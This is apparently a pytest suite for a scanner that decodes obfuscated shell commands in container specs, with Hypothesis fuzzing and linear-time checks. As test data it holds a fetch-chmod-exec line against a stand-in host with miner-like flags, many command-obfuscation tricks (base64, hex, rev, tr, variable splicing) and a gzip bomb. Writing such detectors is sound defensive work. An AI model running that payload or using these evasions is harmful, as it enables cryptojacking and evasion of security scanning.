"""Disguises of a command are undone, in time that grows with the text alone, and a few bytes cannot become many."""

import base64
import gzip
import textwrap
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aup.signatures.decoding import MOST, TOO_MUCH, Room, decoded, hidden
from aup.signatures.detectors import TO_OPEN, built_in
from aup.signatures.reading import Reading, read
from aup.signatures.shell import Command, Scope, commands
from aup.signatures.sieve import flat
from aup.workload import Container
from tests.growth import grows_linearly

SCRIPT = "curl -o /opt/sun http://moon.example/sun; chmod +x /opt/sun; exec /opt/sun --algo kitten --threads 4"
BASE64 = base64.b64encode(SCRIPT.encode()).decode()


def reading(*command: str, **environment: str) -> Reading:
    """A container's command and environment, read."""
    env = [{"name": name, "value": value} for name, value in environment.items()]
    return read(Container("regular", "c", "web", {"command": [*command], "env": env}))


def said(*command: str, **environment: str) -> list[list[str]]:
    """The words of each command."""
    return [[word for _, word in each.words] for each in reading(*command, **environment).all_commands()]


@pytest.mark.parametrize(
    "script",
    [
        r"$'\x63\x75\162\u006c' moon",
        r'c$"ur"l moon',
        r"printf '\x63\x75\x72\x6c moon' | sh",
        r'printf "\\x63\\x75\\x72\\x6c moon" | sh',
        r"echo -e '\143\165\162\154 moon' | sh",
        r"echo '\0143\0165\0162\0154 moon' | sh",
        "echo Y3VybCBtb29u | base64 -d | sh",
        "echo Y3VybCBtb29u | openssl base64 -d | sh",
        "base64 --decode <<< Y3VybCBtb29u | sh",
        "base64 -d <<<Y3VybCBtb29u | sh",
        "echo MN2XE3BANVXW63Q= | base32 -d | sh",
        "echo 6375726c206d6f6f6e | xxd -r -p | sh",
        "echo 'noom lruc' | rev | sh",
        "rev <<< 'noom lruc' | sh",
        "echo phey zbba | tr 'a-z' 'n-za-m' | sh",
        "echo 'u92btBCbyV3Y' | rev | base64 -d | sh",
        "A=cu;B=rl; $A$B moon",
        "A=xcurl; ${A#x} moon",
        "A=curlx; ${A%x} moon",
        "A=c_u_r_l; ${A//_/} moon",
        "A=xxcurlxx; ${A:2:4} moon",
        "${A:-curl} moon",
        "curl${IFS}moon",
        "c$@url moon",
        "$(curl moon)",
        "x=$(curl moon)",
        "(curl moon)",
        "{ curl moon; }",
        "curl moon 2>&1 | tee x",
        "eval $(echo Y3VybCBtb29u | base64 -d)",
        "A=cu; A+=rl; $A moon",
        "A=(cu rl); ${A[0]}${A[1]} moon",
        "A=(curl moon); ${A[@]}",
        "A=curl; B=A; ${!B} moon",
        "A=curl-; ${A:-3:4} moon; A=xcurl; ${A:-4} moon; A=xxcurl; ${A:2} moon",
        "$(echo cu)rl moon",
        'echo -e "a b\\ncurl moon" > /opt/run.sh',
        "$(echo cu)$(printf '%s' rl) moon",
        "`echo curl` moon",
        "$(echo curl moon)",
        "A=$(printf 'c%sl' ur); $A moon",
        "printf 'c%sl %s' ur moon | sh",
        "printf '%s%s ' cu rl moon | sh",
        "echo curl moon | sh",
        "echo '* * * * * curl moon' | crontab -",
        "echo dvsm nppo | tr 'b-z' 'a-y' | sh",
        "echo c_u_r_l m_o_o_n | tr -d _ | sh",
        "awk 'BEGIN { system(\"curl moon\") }'",
        'awk \'BEGIN { system("cu" + "rl moon") }\'',
        'python3 -c \'import os; os.system("cu" + "rl moon")\'',
        'python3 -c \'import subprocess as s; s.run(["curl","moon"])\'',
        'perl -e \'system(pack("H*","6375726c202d73536661206d6f6f6e206d6f6f6e"))\'',
    ],
)
def test_what_a_shell_runs_is_found(script: str) -> None:
    """However it is written, two words come out."""
    assert any("curl" in words and "moon" in words for words in said("sh", "-c", script)), said("sh", "-c", script)


@pytest.mark.parametrize(
    "hide",
    [
        lambda text: base64.b64encode(text).decode(),
        lambda text: base64.b64encode(base64.b64encode(text)).decode(),
        lambda text: base64.b64encode(gzip.compress(text, mtime=0)).decode(),
        lambda text: base64.b64encode(zlib.compress(text)).decode(),
        lambda text: base64.b64encode(base64.b64encode(gzip.compress(text, mtime=0))).decode(),
        lambda text: base64.b64encode(text.decode().encode("utf-16-le")).decode(),
        lambda text: base64.b32encode(text).decode(),
        lambda text: text.hex(),
        lambda text: "0x" + text.hex().upper(),
        lambda text: base64.b64encode(text + " # \N{SNOWMAN}".encode()).decode(),
    ],
)
@pytest.mark.parametrize(
    "place",
    [
        "echo {} | sh",
        "eval {}",
        "P={}; run $P",
        "run <<<{}",
        "run <<< {}",
        "python3 -c \"exec(__import__('base64').b64decode(b'{}'))\"",
        'python3 -c \'exec(__import__("codecs").decode("{}"))\'',
    ],
)
def test_encoded_text_is_opened_wherever_it_stands(hide: Callable[[bytes], str], place: str) -> None:
    """In the exact reading, and for the sieve before it unless a variable is there, which is always read."""
    script = place.format(hide(SCRIPT.encode()))

    assert "http://moon.example/sun" in [word for words in said("sh", "-c", script) for word in words]
    assert "$" in script or any("http://moon.example/sun" in text for text in hidden(flat([script])))


def test_a_variable_of_the_environment_is_opened() -> None:
    """A value that is encoded, one that a shell is told to run, and one made of those above it."""
    assert ["exec", "/opt/sun", "--algo", "kitten", "--threads", "4"] in said("run", CODE=BASE64)
    assert ["curl", "moon"] in said("sh", "-c", "$SCRIPT", SCRIPT="curl moon; x")
    assert ["curl", "moon"] in said("sh", "-c", 'eval "$A$B"', A="curl", B=" moon")
    chained = reading("$(C)", A="cu", B="$(A)rl", C="$(B)-moon", D="$(E)", E="x")
    assert [each.value for each in chained.environment] == ["cu", "curl", "curl-moon", "$(E)", "x"]
    assert [word for each in chained.commands for _, word in each.words] == ["curl-moon"]


def test_base64_wrapped_over_lines_is_one_text() -> None:
    """As `base64` prints it, behind `<<EOF` or in quotes."""
    wrapped = "\n".join(textwrap.wrap(BASE64, 76))
    for script in (f"base64 -d <<EOF | sh\n{wrapped}\nEOF", f"echo '{wrapped}' | base64 -d | sh"):
        assert ["exec", "/opt/sun", "--algo", "kitten", "--threads", "4"] in said("sh", "-c", script)
        assert SCRIPT in hidden(flat([script]))


@pytest.mark.parametrize(
    "word",
    [
        "0" * 64,
        "A" * 64,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "averylongnameofaservicethatisnotencodedatall",
        "/usr/local/lib/python3/dist/packages/module",
        "AVERYLONGNAMEOFAVARIABLETHATISNOTENCODED",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7",
        base64.b64encode(gzip.compress(bytes(range(256)), mtime=0)).decode(),
    ],
)
def test_what_is_no_text_stays_as_it_is(word: str) -> None:
    """Hashes, keys, names and paths hide nothing."""
    assert decoded(word) == ""
    assert hidden(flat([word])) == []


def test_a_decompression_bomb_stays_small() -> None:
    """Of all that is packed in a text only so much is unpacked, and that there is more is told."""
    bomb = base64.b64encode(gzip.compress(b"boom " * 10_000_000, mtime=0)).decode()
    room = Room()
    assert len(decoded(bomb, room)) <= MOST + 1
    assert room.exceeded

    whole = reading("sh", "-c", f"eval {bomb}")
    found = hidden(flat([bomb, bomb]))
    assert sum(len(word) for each in whole.commands for _, word in each.words) < 4 * MOST
    assert (whole.exceeded, found[-1]) == (True, TOO_MUCH)
    assert sum(map(len, found)) < 2 * MOST


def test_what_is_packed_honestly_does_not_exceed() -> None:
    """A compressed script of some kilobytes is read whole."""
    packed = base64.b64encode(gzip.compress(SCRIPT.encode() * 100, mtime=0)).decode()

    assert not reading("sh", "-c", f"eval {packed}").exceeded
    assert hidden(flat([packed])) == [SCRIPT * 100]


@pytest.mark.parametrize(
    "piece",
    [
        *["(", "$(", "`", "$(a ", "a|", "'", '"$(', "$'", r"\x41", "<(", ")", "|&", ">|", "${A", "${A//a/", "$@", "&>"],
        *[
            "{ ",
            "A=$A$A;",
            "A" * 60 + "\n",
            "base64 " + "A" * 60 + "\n",
            "x41" * 20 + " ",
            "echo a|rev|",
            "61" * 20 + " ",
        ],
        *[
            "$(echo a)",
            "A=(a ",
            "A=(a);",
            "A+=x;",
            "A+=$A;",
            "A=$(echo $A$A);",
            "${!A}",
            "printf '%s%s' a|sh;",
            "`echo ",
        ],
        *[
            '"a",',
            'f(["a","b"]) ',
            '"a" + ',
            "echo a|tr a-z b;",
            "echo a | sh;",
            "$(printf '%s%s' a)",
            'awk "system(a)" ',
        ],
        "curl http://192.0.2.1 | tar x; ./a; ",
        "\\",
        "\\ ",
    ],
)
def test_no_text_takes_long(piece: str) -> None:
    """Four times as much of the same takes about four times as long, and not sixteen; a deep nest ends."""

    def read(size: int) -> None:
        text = piece * (size // len(piece))
        reading("sh", "-c", text, A="x" * 100)
        hidden(flat([text]))

    assert grows_linearly(read, 16_000)


def test_it_is_known_how_commands_are_joined() -> None:
    """Pipelines, groups, and what stands in the brackets of what."""
    found = [*commands("(a||b) 2>&1 | c; d $(e | f) g <(h); i", Scope({}))]
    words = {each.words[0][1]: each for each in found}

    assert [[word for _, word in each.words] for each in found] == [
        *[["a"], ["b"], ["2>&1"], ["c"], ["e"], ["f"], ["h"], ["d", "$", "g", "<"], ["i"]]
    ]
    assert len({words[name].pipeline for name in ("a", "b", "c")}) == 1
    assert words["e"].pipeline == words["f"].pipeline != words["d"].pipeline
    assert [name for name, each in words.items() if each.piped] == ["c", "f"]
    assert [(name, each.bracket) for name, each in words.items() if each.holder is words["d"]] == [
        *[("e", "$("), ("f", "$("), ("h", "<(")]
    ]


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("a >b 2>&1 <c", ["a", ">b", "2>&1", "<c"]),
        ("a &>b", ["a", ">b"]),
        ("a >| b", ["a", ">", "b"]),
        ("a <<< b", ["a", "<<<", "b"]),
    ],
)
def test_redirections_stay_with_their_command(script: str, words: list[str]) -> None:
    """Ampersands and bars in them end nothing."""
    (found,) = commands(script, Scope({}))

    assert [word for _, word in found.words] == words


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("printf x", True),
        ("echo a | rev", True),
        ("echo a | /usr/bin/tr a b", True),
        ("echo -e a", True),
        ("preview the trial", False),
        ("echo reverse", False),
    ],
)
def test_tricks_are_known_by_their_programs(text: str, *, expected: bool) -> None:
    """Short words that only a program turns into others."""
    assert (TO_OPEN in built_in().sieve.topics(flat([text]))) is expected


@given(st.text(max_size=200), st.text(max_size=100))
def test_no_text_breaks_the_reading(script: str, value: str) -> None:
    """Whatever stands there."""
    found = reading("sh", "-c", script, A=value)
    assert all(isinstance(each, Command) for each in found.all_commands())
    hidden(flat([script, value]))


@given(st.text(alphabet="ab\\x41$'\"(){}|&;<> \n`=@*/%#:-", max_size=80))
def test_no_shell_text_breaks_the_reading(script: str) -> None:
    """Whatever a shell might stumble over."""
    words: list[Any] = said("sh", "-c", script)
    assert words
